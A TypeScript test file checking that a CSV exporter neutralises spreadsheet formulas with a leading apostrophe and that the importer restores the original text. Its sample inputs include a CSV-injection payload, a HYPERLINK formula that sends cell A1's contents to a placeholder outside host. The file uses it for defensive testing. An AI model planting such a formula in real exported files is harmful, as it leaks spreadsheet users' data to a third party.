import { readCsv } from '../../../../server/domain/exchange/csv';
import { toCsv, undoFormulaEscape } from '../../../../server/domain/exchange/csv-write';
import { readOptionalText, readRequiredText } from '../../../../server/domain/exchange/values';

/** The cells of a CSV text as a spreadsheet-independent reader sees them (header included). */
function cells(csv: string): string[][] {
  const read = readCsv('t.csv', csv);
  if (!read.ok) throw new Error(JSON.stringify(read.problems));
  return [read.table.header.values, ...read.table.records.map((r) => r.values)];
}

/** Texts a hostile or merely unlucky user may type, and texts that merely look like them. */
const TEXTS = [
  '=HYPERLINK("http://exemple.org/?x="&A1,"Cliquez")',
  '+33 1 23 45 67 89',
  '-5 mines détruites',
  '@SUM(A1:A9)',
  '\tavec une tabulation',
  '\rretour chariot',
  '＝1+1',
  "'=déjà une apostrophe",
  "''+deux apostrophes",
  "'apostrophe sans formule",
  "l'apostrophe au milieu",
  'a, b; "c"',
  'texte ordinaire',
];

describe('writing CSV: formulas neutralised, numbers left as numbers', () => {
  test('a text cell beginning with = + - @ tab or CR is written with a leading apostrophe', () => {
    const [, ...rows] = cells(toCsv([['texte'], ...TEXTS.map((t) => [t])]));
    expect(rows.map((r) => r[0])).toEqual([
      `'=HYPERLINK("http://exemple.org/?x="&A1,"Cliquez")`,
      "'+33 1 23 45 67 89",
      "'-5 mines détruites",
      "'@SUM(A1:A9)",
      "'\tavec une tabulation",
      "'\rretour chariot",
      "'＝1+1",
      // An apostrophe that was typed before a formula character gets one more, so that it survives the import.
      "''=déjà une apostrophe",
      "'''+deux apostrophes",
      "'apostrophe sans formule",
      "l'apostrophe au milieu",
      'a, b; "c"',
      'texte ordinaire',
    ]);
  });

  test('numbers, negative ones included, are written as numbers; booleans as yes/no; null as an empty cell', () => {
    const csv = toCsv([
      ['a', 'b', 'c', 'd'],
      [-3.5, 0, true, null],
      [-1e-7, 12, false, ''],
    ]);
    expect(csv).toBe('a,b,c,d\n-3.5,0,yes,\n-1e-7,12,no,\n');
  });

  test('quoting as RFC 4180 asks, LF line ends, and spaces at either end kept visible', () => {
    expect(
      toCsv([
        ['x', 'y'],
        ['a,b', 'deux\nlignes'],
        [' devant', 'derrière '],
        ['"q"', ''],
      ]),
    ).toBe('x,y\n"a,b","deux\nlignes"\n" devant","derrière "\n"""q""",\n');
  });

  test('the importer takes off exactly the apostrophe the writer added: every text comes back as it was', () => {
    const written = cells(toCsv([['texte'], ...TEXTS.map((t) => [t])])).slice(1);
    expect(written.map((r) => undoFormulaEscape(r[0]!))).toEqual(TEXTS);
    // Through the readers of the text columns too (the notes and sources, the States' names).
    const notes = written.map((r) => readOptionalText(r[0]!));
    expect(notes).toEqual(TEXTS.map((t) => t.replace(/\r\n?/g, '\n')));
    const names = written.map((r) => readRequiredText(r[0]!, 'nameFrMissing'));
    expect(names).toEqual(TEXTS.map((t) => ({ ok: true, value: t })));
  });

  test('an apostrophe typed in a hand-made file before a formula character is read as the prefix', () => {
    expect(readOptionalText("'=1+1")).toBe('=1+1');
    expect(readOptionalText("''=1+1")).toBe("'=1+1");
    expect(readOptionalText("'1+1")).toBe("'1+1");
    expect(readOptionalText("  '-2  ")).toBe('-2');
  });
});
